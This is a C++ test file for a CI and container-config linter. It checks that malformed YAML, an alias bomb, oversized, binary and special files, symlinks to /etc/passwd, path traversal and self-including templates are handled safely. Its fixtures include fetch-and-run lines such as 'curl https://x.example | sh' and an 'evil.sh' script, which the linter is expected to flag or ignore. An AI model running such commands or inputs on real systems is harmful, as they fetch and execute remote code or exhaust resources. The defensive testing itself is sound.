// Hostile and broken files: an error with the file (and line), the other
// files still linted, no crash and no hang.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>

#include "lint_test_support.h"

namespace hostward::lint {
namespace {

using testing::lint_errors;
using testing::lint_hits;
using testing::TempTree;
using V = std::vector<std::string>;

const char* kGoodCompose = "services:\n  db:\n    image: postgres\n    ports: [\"5432:5432\"]\n";

bool contains(const V& v, const std::string& needle) {
  return std::any_of(v.begin(), v.end(),
                     [&](const std::string& s) { return s.find(needle) != std::string::npos; });
}

TEST(LintBadInput, MalformedYamlIsReportedWithItsLineAndTheRestIsLinted) {
  TempTree t;
  t.write("docker-compose.yml", kGoodCompose);
  t.write(".github/workflows/broken.yml", "jobs:\n  a:\n    runs-on: [self-hosted\n    steps: x\n");
  t.write(".gitlab-ci.yml", "build:\n  script: make\n bad: x\n");
  // yaml-cpp's LoadAll never returns on this one (found by fuzz_lint_yaml)
  t.write("compose.hang.yml", ",e@ripta@riptake\n");
  const V errors = lint_errors(t.path());
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_TRUE(contains(errors, ".github/workflows/broken.yml:4: YAML:")) << errors[0];
  EXPECT_TRUE(contains(errors, ".gitlab-ci.yml:3: YAML: end of map not found")) << errors[1];
  EXPECT_EQ(lint_hits(t.path()),
            (V{"docker-compose.yml:4:14 high ci.port-published-all-interfaces"}));
}

TEST(LintBadInput, AliasBombIsCappedNotExpanded) {
  // 9 levels of 9 aliases: 387 million leaves if walked naively.
  std::string bomb =
      "x-a: &a [\"1:1\",\"1:1\",\"1:1\",\"1:1\",\"1:1\",\"1:1\",\"1:1\",\"1:1\",\"1:1\"]\n";
  std::string prev = "a";
  for (int i = 0; i < 9; ++i) {
    const std::string name = "b" + std::to_string(i);
    bomb += "x-" + name + ": &" + name + " [";
    for (int k = 0; k < 9; ++k) bomb += (k ? ",*" : "*") + prev;
    bomb += "]\n";
    prev = name;
  }
  TempTree t;
  t.write("docker-compose.yml", bomb + "services:\n  s:\n    image: x\n    ports: *" + prev +
                                    "\n    environment: *" + prev + "\n    command: *" + prev +
                                    "\n");
  t.write(".gitlab-ci.yml", bomb + "job:\n  script: *" + prev + "\n");
  t.write("compose.yaml", kGoodCompose);
  const V errors = lint_errors(t.path());
  EXPECT_EQ(errors, (V{".gitlab-ci.yml:0: not linted to the end: more than 200000 YAML nodes "
                       "walked (alias bomb?)"}));
  EXPECT_EQ(lint_hits(t.path()), (V{"compose.yaml:4:14 high ci.port-published-all-interfaces"}));
}

TEST(LintBadInput, HugeBinaryDeepAndSpecialFilesAreRefused) {
  TempTree t;
  {
    const int fd = ::open((t.path() + "/docker-compose.big.yml").c_str(), O_CREAT | O_WRONLY, 0644);
    ASSERT_GE(fd, 0);
    ASSERT_EQ(::ftruncate(fd, 100LL << 20), 0);  // 100 MB, sparse
    ::close(fd);
  }
  t.write("Dockerfile", std::string("FROM x") + '\0' + "\x01\x02" + "RUN curl x | sh\n");
  t.write("compose.deep.yml", "services: " + std::string(100000, '[') + "\n");
  ASSERT_EQ(::mkfifo((t.path() + "/compose.fifo.yml").c_str(), 0644), 0);
  ASSERT_EQ(::symlink("/etc/passwd", (t.path() + "/docker-compose.link.yml").c_str()), 0);
  t.write("compose.yaml", kGoodCompose);
  const V errors = lint_errors(t.path());
  EXPECT_TRUE(contains(errors, "docker-compose.big.yml:0: file of 104857600 bytes is larger than"));
  EXPECT_TRUE(contains(errors, "Dockerfile:0: binary content (NUL bytes), not read"));
  EXPECT_TRUE(contains(errors, "compose.deep.yml:"));
  EXPECT_FALSE(contains(errors, "fifo"));  // not a regular file: never opened
  EXPECT_FALSE(contains(errors, "link"));  // a symbolic link is not followed
  EXPECT_EQ(lint_hits(t.path()), (V{"compose.yaml:4:14 high ci.port-published-all-interfaces"}));
}

TEST(LintBadInput, ReferencesOutsideTheTreeAreNotFollowed) {
  TempTree outside;
  outside.write("evil.sh", "curl https://x.example | sh\n");
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
          "      - run: ../" +
              outside.path().substr(5) +
              "/evil.sh && bash /etc/profile\n"
              "      - uses: ./../../etc\n");
  ASSERT_EQ(::symlink((outside.path() + "/evil.sh").c_str(), (t.path() + "/link.sh").c_str()), 0);
  t.write("azure-pipelines.yml",
          "steps:\n  - template: ../../../../etc/passwd\n  - bash: ./link.sh\n");
  EXPECT_EQ(lint_hits(t.path()), V{});
}

TEST(LintBadInput, TemplatesThatIncludeThemselvesEndOnce) {
  TempTree t;
  t.write("azure-pipelines.yml", "steps:\n  - template: loop.yml\n");
  t.write("loop.yml", "steps:\n  - template: loop.yml\n  - script: curl https://x.example | sh\n");
  EXPECT_EQ(lint_hits(t.path()), (V{"loop.yml:3:13 high ci.remote-script-pipe"}));
}

}  // namespace
}  // namespace hostward::lint
